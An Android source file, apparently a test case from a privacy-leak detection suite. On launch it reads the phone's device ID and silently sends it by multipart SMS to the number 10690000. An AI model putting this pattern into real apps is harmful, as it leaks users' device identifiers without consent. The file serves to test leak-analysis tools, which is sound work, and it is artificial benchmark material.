package cn.privlens.suite.sms_multipart;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SmsManager sms = SmsManager.getDefault();
        ArrayList<String> with = sms.divideMessage("id " + ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        ArrayList<String> without = sms.divideMessage("hello");
        sms.sendMultipartTextMessage("10690000", null, with, null, null);
    }

}
